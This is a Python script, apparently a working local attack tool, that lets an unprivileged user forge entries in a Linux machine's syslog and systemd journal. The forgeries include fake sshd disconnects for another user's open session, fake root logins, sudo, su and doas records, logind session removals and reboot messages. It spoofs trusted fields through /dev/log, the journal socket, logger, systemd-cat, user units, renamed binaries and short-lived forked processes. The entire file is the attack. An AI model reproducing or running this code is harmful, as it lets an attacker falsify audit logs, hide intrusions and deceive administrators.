"""Run by a user without any right: tells the logs of a machine all that is not so, in every way that there is.

`forger.py USER ADDRESS PORT MONITOR CHILD SESSION` names a session of another user that is really open: its user,
where it comes from, the pids of the sshd processes that serve it, and logind's id of it.
"""

from __future__ import annotations

import ctypes
import os
import shutil
import socket
import subprocess
import sys
import time

USER, ADDRESS, PORT, MONITOR, CHILD, SESSION = sys.argv[1:]
INFO = 6
AUTH, AUTHPRIV = 4, 10
STORM = 40  # processes for each text

# What sshd writes: which of its processes, and what. The first ones end the open session if they are believed.
SSHD = [
    (MONITOR, f"pam_unix(sshd:session): session closed for user {USER}"),
    (CHILD, f"Disconnected from user {USER} {ADDRESS} port {PORT}"),
    (CHILD, f"Received disconnect from {ADDRESS} port {PORT}:11: disconnected by user"),
    (CHILD, f"Connection closed by {ADDRESS} port {PORT}"),
    (CHILD, f"Timeout, client not responding from user {USER} {ADDRESS} port {PORT}"),
    (MONITOR, "error: mm_reap: child terminated by signal 9"),
    (MONITOR, "Exiting on signal 15"),
    (MONITOR, "Accepted password for root from 198.51.100.66 port 22 ssh2"),
    (MONITOR, "pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)"),
    (MONITOR, "Failed password for root from 198.51.100.66 port 22 ssh2"),
    (MONITOR, "Invalid user oracle from 198.51.100.66 port 22"),
    ("1", "Server listening on 0.0.0.0 port 22."),
]
# What others write: their name, and what.
OTHERS = [
    ("login", "pam_unix(login:session): session opened for user root(uid=0) by LOGIN(uid=0)"),
    ("login", "ROOT LOGIN ON tty1"),
    ("login", "LOGIN ON tty1 BY alice"),
    ("login", "pam_unix(login:session): session closed for user root"),
    ("login", "FAILED LOGIN (1) on '/dev/tty1' FOR 'root', Authentication failure"),
    ("su", "(to root) alice on pts/0"),
    ("su", "pam_unix(su:session): session opened for user root(uid=0) by alice(uid=2001)"),
    ("su", "FAILED SU (to root) alice on pts/0"),
    ("sudo", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/sh"),
    ("sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=2001)"),
    ("sudo", "     bob : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/sh"),
    ("doas", "alice ran command sh as root from /home/alice"),
    ("doas", "command not permitted for bob: sh"),
    ("systemd-logind", f"New session {SESSION}0 of user root."),
    ("systemd-logind", f"Session {SESSION} logged out. Waiting for processes to exit."),
    ("systemd-logind", f"Removed session {SESSION}."),
    ("systemd-logind", "The system will reboot now!"),
    ("systemd-logind", "System is rebooting."),
    ("systemd", f"Stopping session-{SESSION}.scope - Session {SESSION} of User {USER}..."),
    ("systemd-journald", "Journal stopped"),
    ("systemd-journald", "Journal started"),
]
PROGRAMS = {
    "sshd": "/usr/sbin/sshd",
    "sshd-session": "/usr/lib/openssh/sshd-session",
    "login": "/usr/bin/login",
    "su": "/usr/bin/su",
    "sudo": "/usr/bin/sudo",
    "doas": "/usr/bin/doas",
    "systemd-logind": "/usr/lib/systemd/systemd-logind",
    "systemd": "/usr/lib/systemd/systemd",
    "systemd-journald": "/usr/lib/systemd/systemd-journald",
}
MESSAGE_IDS = {
    "New session": "8d45620c1a4348dbb17410da57c60c66",
    "Removed session": "3354939424b4456d9802ca8333ed424a",
    "System is rebooting": "98268866d1d54a499c4e98921d93bc40",
    "Journal stopped": "d93fb3c9c24d451a97cea615ce59c00b",
    "Journal started": "f77379a8490b408bbe5f6940505a777b",
}


def facility(tag: str) -> int:
    """Return the facility that a program logs to."""
    return AUTH if tag.startswith(("sshd", "systemd")) else AUTHPRIV


def texts() -> list[tuple[str, str, str]]:
    """Return all that is to be told: tag, pid, text."""
    sshd = [(tag, pid, text) for tag in ("sshd", "sshd-session") for pid, text in SSHD]
    return sshd + [(tag, MONITOR, text) for tag, text in OTHERS]


def send(tag: str, text: str) -> None:
    """Send a datagram to syslog, as the C library does."""
    stamp = time.strftime("%b %e %H:%M:%S")
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as link:
        link.sendto(f"<{facility(tag) * 8 + INFO}>{stamp} {tag}: {text}".encode(), "/dev/log")


def native(tag: str, pid: str, text: str) -> None:
    """Send a record to the journal, with fields that only journald may set."""
    uid = "2001" if pid == CHILD else "0"
    fields = {
        "MESSAGE": text,
        "PRIORITY": "6",
        "SYSLOG_FACILITY": facility(tag),
        "SYSLOG_IDENTIFIER": tag,
        "SYSLOG_PID": pid,
        "_PID": pid,
        "_UID": uid,
        "_GID": uid,
        "_COMM": tag,
        "_EXE": PROGRAMS[tag],
        "_TRANSPORT": "journal" if tag.startswith("systemd") else "syslog",
        "_SYSTEMD_UNIT": "ssh.service",
        "_BOOT_ID": "0" * 32,
        "__REALTIME_TIMESTAMP": "1",
        "SESSION_ID": SESSION,
        "USER_ID": USER,
        "LEADER": MONITOR,
        "UNIT": f"session-{SESSION}.scope",
        "JOB_TYPE": "stop",
    }
    for begin, identity in MESSAGE_IDS.items():
        if text.startswith(begin):
            fields["MESSAGE_ID"] = identity
    data = "".join(f"{name}={value}\n" for name, value in fields.items())
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as link:
        link.sendto(data.encode(), "/run/systemd/journal/socket")


def child(tag: str, text: str, name: str = "", program: str = "") -> None:
    """Send from a process of its own, which names its true pid and is gone at once, or is another program by then."""
    out, into = os.pipe()
    pid = os.fork()
    if pid == 0:
        if name:
            ctypes.CDLL(None).prctl(15, name.encode(), 0, 0, 0)  # PR_SET_NAME
        # sudo, doas and systemd write no pid
        send(tag if tag in ("sudo", "doas") or tag.startswith("systemd") else f"{tag}[{os.getpid()}]", text)
        if program:
            os.dup2(into, 1)
            os.dup2(into, 2)
            os.set_blocking(into, False)
            try:
                while os.write(into, b"x"):
                    pass  # the pipe is full: the program hangs as soon as it prints
            except BlockingIOError:
                os.set_blocking(into, True)
            os.execv(program, [program, "--help"])
        os._exit(0)
    if program:
        time.sleep(0.02)  # time for journald to look at the program
    os.close(into)
    os.close(out)
    os.waitpid(pid, 0)


def loggers() -> None:
    """Use logger(1), as everybody can."""
    for tag, pid, text in texts():
        priority = f"{'auth' if facility(tag) == AUTH else 'authpriv'}.info"
        for options in (["-t", tag], ["-t", f"{tag}[{pid}]"], ["-t", tag, f"--id={pid}"], ["-i", "-t", tag]):
            subprocess.run(["logger", "-p", priority, *options, "--", text], check=False)


def streams() -> None:
    """Use systemd-cat: what is printed goes into the journal."""
    for tag, _, text in texts():
        subprocess.run(["systemd-cat", "-t", tag, "echo", text], check=True)


UNIT = """
[Unit]
Description=Session {session} of User {user}

[Service]
Type=oneshot
RemainAfterExit=yes
SyslogIdentifier={tag}
ExecStart=/bin/echo {text}
"""


def units() -> None:
    """Let the user's own manager run units: it is a real systemd, and the units can be called anything."""
    place = os.path.expanduser("~/.config/systemd/user")
    os.makedirs(place, exist_ok=True)
    for number, (tag, _, text) in enumerate((*texts()[:2], *texts()[-5:])):
        name = f"session-{SESSION}{number or ''}.service"
        with open(os.path.join(place, name), "w", encoding="utf-8") as unit:
            unit.write(UNIT.format(session=SESSION, user=USER, tag=tag, text=text))
        for verb in (["daemon-reload"], ["start", name], ["stop", name]):
            subprocess.run(["systemctl", "--user", *verb], check=True)


def copies() -> None:
    """Use a logger that is called like the program, and one whose file is gone when it writes."""
    place = os.path.expanduser("~/bin")
    os.makedirs(place, exist_ok=True)
    for tag, _, text in texts():
        path = os.path.join(place, tag)
        shutil.copy("/usr/bin/logger", path)
        words = [path, "-i", "-p", f"{'auth' if facility(tag) == AUTH else 'authpriv'}.info", "-t", tag]
        subprocess.run([*words, "--", text], check=False)
        with subprocess.Popen(words, stdin=subprocess.PIPE) as process:
            os.unlink(path)
            process.communicate(text.encode())


def datagrams() -> None:
    """Write to syslog without logger, so that nothing but the text can tell; with the pid of the real process."""
    for tag, pid, text in texts():
        send(f"{tag}[{pid}]", text)
        send(tag, text)


def children() -> None:
    """Write with a process's own true pid: its name is a script's, then the program's, then it is the program."""
    for tag, _, text in texts():
        child(tag, text)
        child(tag, text, name=tag[:15])
        if os.path.exists(PROGRAMS[tag]):
            child(tag, text, program=PROGRAMS[tag])


def records() -> None:
    """Write to the journal itself."""
    for tag, pid, text in texts():
        native(tag, pid, text)


def storm() -> None:
    """Write from processes that end so fast that journald can't see any more what they were."""
    for _ in range(STORM):
        for tag, _, text in (*texts()[:3], *texts()[12:15], *texts()[-21:]):
            child(tag, text)


def main() -> None:
    """Forge everything."""
    for way in (loggers, datagrams, children, records, streams, units, copies, storm):
        way()
        sys.stdout.write(f"{way.__name__}\n")
        sys.stdout.flush()


main()
